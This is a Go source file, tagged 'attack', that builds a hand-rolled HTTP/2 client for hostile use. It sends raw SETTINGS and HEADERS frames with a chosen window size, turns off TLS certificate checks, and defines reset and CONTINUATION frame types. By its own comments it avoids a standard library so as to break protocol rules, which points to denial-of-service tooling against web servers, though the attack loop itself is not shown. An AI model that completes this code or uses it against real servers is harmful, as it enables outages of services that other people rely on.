//go:build attack

package main

import (
	"crypto/tls"
	"encoding/binary"
	"io"
	"net"
	"time"
)

// The frames of HTTP/2 (RFC 9113) that a hostile client needs, written by hand:
// a library would keep its rules.
const (
	frameData     = 0
	frameHeaders  = 1
	frameReset    = 3
	frameSettings = 4
	framePing     = 6
	frameContinue = 9

	endStream  = 1
	endHeaders = 4
)

// h2 is a connection that has shaken hands and asks for a window of so many
// bytes a stream.
type h2 struct {
	net.Conn
	next uint32 // stream
}

func dialH2(addr string, window uint32) (*h2, error) {
	d := &net.Dialer{Timeout: 5 * time.Second}
	c, err := tls.DialWithDialer(d, "tcp", addr, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
	if err != nil {
		return nil, err
	}
	h := &h2{c, 1}
	c.SetDeadline(time.Now().Add(10 * time.Minute)) // loops end by themselves
	settings := binary.BigEndian.AppendUint32([]byte{0, 4}, window)
	if _, err := io.WriteString(c, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"); err != nil {
		return nil, err
	}
	return h, h.frame(frameSettings, 0, 0, settings)
}

func (h *h2) frame(kind, flags byte, stream uint32, body []byte) error {
	f := []byte{byte(len(body) >> 16), byte(len(body) >> 8), byte(len(body)), kind, flags}
	f = append(binary.BigEndian.AppendUint32(f, stream), body...)
	_, err := h.Write(f)
	return err
}

// get asks for a path and returns the stream.
func (h *h2) get(path string, flags byte) (uint32, error) {
	// Of the static table: GET, https; the path and the authority as they are.
	block := append([]byte{0x82, 0x87, 0x04, byte(len(path))}, path...)
	block = append(block, 0x41, 1, 'x')
	stream := h.next
	h.next += 2
	return stream, h.frame(frameHeaders, flags, stream, block)
}

// drain reads and drops what is sent, until the end.
func (h *h2) drain() { io.Copy(io.Discard, h) }
